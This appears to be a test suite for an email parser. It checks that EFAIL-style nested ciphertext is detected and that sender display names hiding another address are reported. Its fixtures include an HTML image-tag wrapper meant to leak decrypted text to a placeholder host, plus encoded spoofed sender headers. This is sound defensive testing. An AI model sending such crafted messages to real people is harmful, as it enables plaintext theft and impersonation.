"""Pure defences against the public attack suites: nested ciphertext (EFAIL, "Re: What's up Johnny?") and
display names that show another address (Mailsploit, "Johnny, you are fired!" ID attacks)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.mime.parse import parse_message
from app.mime.protected import holds_nested_ciphertext, is_single_protected_entity

HEAD = b"From: Mallory <mallory@attacker.test>\r\nTo: me@clinic.test\r\nSubject: Hi\r\nMIME-Version: 1.0\r\n"
PGP_MIME = (
    b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="e"\r\n\r\n'
    b"--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
    b"--e\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ==\r\n"
    b"-----END PGP MESSAGE-----\r\n--e--\r\n"
)
SMIME = b'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\r\n\r\nMIAGCSqG\r\n'


def mixed(*parts: bytes) -> bytes:
    body = b"".join(b"--m\r\n" + part + b"\r\n" for part in parts) + b"--m--\r\n"
    return HEAD + b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n' + body


@pytest.mark.parametrize(
    "message",
    [
        mixed(
            b"Content-Type: text/html\r\n\r\n<img src='http://x.test/?", PGP_MIME, b"Content-Type: text/html\r\n\r\n'>"
        ),
        mixed(PGP_MIME),
        mixed(b"Content-Type: text/plain\r\n\r\nsee below", SMIME),
        mixed(
            b"Content-Type: text/plain\r\n\r\nsee below",
            b'Content-Type: multipart/mixed; boundary="n"\r\n\r\n--n\r\n' + PGP_MIME + b"\r\n--n--",
        ),
    ],
    ids=["efail-html-around", "wrapped-alone", "smime-beside-text", "nested-two-levels"],
)
def test_ciphertext_below_the_top_is_found_and_the_message_is_not_protected(message: bytes) -> None:
    assert holds_nested_ciphertext(message)
    assert not is_single_protected_entity(message)


@pytest.mark.parametrize(
    "message",
    [HEAD + PGP_MIME, HEAD + SMIME, mixed(b"Content-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\nhQ==")],
    ids=["pgp-mime-at-top", "smime-at-top", "inline-armour-is-text"],
)
def test_ciphertext_at_the_top_or_as_text_is_not_called_nested(message: bytes) -> None:
    assert not holds_nested_ciphertext(message)


@pytest.mark.parametrize(
    ("sender", "flagged"),
    [
        ('"carol@certs.test" <mallory@attacker.test>', "carol@certs.test"),
        ("=?utf-8?b?Y2Fyb2xAY2VydHMudGVzdAA=?= <mallory@attacker.test>", "carol@certs.test"),
        ("=?utf-8?q?Carol_=3Ccarol=40certs=2Etest=3E=2C_?= <mallory@attacker.test>", "carol@certs.test"),
    ],
)
def test_a_display_name_showing_another_address_is_reported(sender: str, flagged: str) -> None:
    parsed = parse_message(f"From: {sender}\r\nSubject: x\r\n\r\nbody\r\n".encode())
    assert [a.addr for a in parsed.sender] == ["mallory@attacker.test"]
    assert any(flagged in p and "mallory@attacker.test" in p for p in parsed.problems), parsed.problems


@pytest.mark.parametrize("sender", ['"Carol@Certs.Test" <carol@certs.test>', "Carol Smith <carol@certs.test>"])
def test_a_display_name_showing_the_real_address_or_none_is_not_reported(sender: str) -> None:
    parsed = parse_message(f"From: {sender}\r\nSubject: x\r\n\r\nbody\r\n".encode())
    assert not any("display name" in p for p in parsed.problems)


_LEAVES = st.sampled_from(
    [b"Content-Type: text/plain\r\n\r\nhello", b"Content-Type: text/html\r\n\r\n<img src='http://x.test/?", b"\r\nbare"]
)


@st.composite
def _wrapped(draw: st.DrawFn, depth: int = 0) -> bytes:
    """A multipart (mixed, alternative or related) holding PGP/MIME or S/MIME ciphertext somewhere inside."""
    boundary = f"b{depth}"
    inner = draw(_wrapped(depth + 1)) if depth < 2 and draw(st.booleans()) else draw(st.sampled_from([PGP_MIME, SMIME]))
    parts = draw(st.lists(_LEAVES, max_size=3))
    parts.insert(draw(st.integers(0, len(parts))), inner)
    subtype = draw(st.sampled_from(["mixed", "alternative", "related"]))
    body = b"".join(b"--" + boundary.encode() + b"\r\n" + part + b"\r\n" for part in parts)
    return (
        f'Content-Type: multipart/{subtype}; boundary="{boundary}"\r\n\r\n'.encode() + body + f"--{boundary}--".encode()
    )


@given(_wrapped())
def test_ciphertext_anywhere_below_the_top_is_never_a_protected_message(wrapped: bytes) -> None:
    message = HEAD + wrapped
    assert holds_nested_ciphertext(message)
    assert not is_single_protected_entity(message)
    assert not parse_message(message).is_encrypted
